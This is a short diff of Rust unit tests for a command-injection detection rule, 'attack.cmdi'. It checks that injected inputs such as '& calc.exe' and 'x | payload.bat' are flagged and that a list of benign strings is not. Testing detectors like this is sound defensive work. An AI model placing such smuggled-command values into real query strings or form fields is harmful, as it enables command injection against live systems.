+        assert!(flags_at("attack.cmdi", Part::Query, "& calc.exe"), "an executable run by its name");
+        assert!(flags_at("attack.cmdi", Part::Body, "x | payload.bat"), "an executable run by its name in a form");
+        for v in [
+            "Wow!! Great price",
+            "Rated !-1 by nobody!",
+            "alias: Bob",
+            "my alias=bobby",
+            "Download app.exe & run it",
+            "Notes\nA1 list of tasks\nB2 copy of the form",
+            "Cost: $IFSC code is HDFC0001",
+            "We use PowerShell to get-things done",
+            "email me @ {address}",
+            "${\\LaTeX} and $\\alpha$",
+            "$1: constructor pattern",
+        ] {
             assert!(!flags("attack.cmdi", v), "{v}");
         }
     }
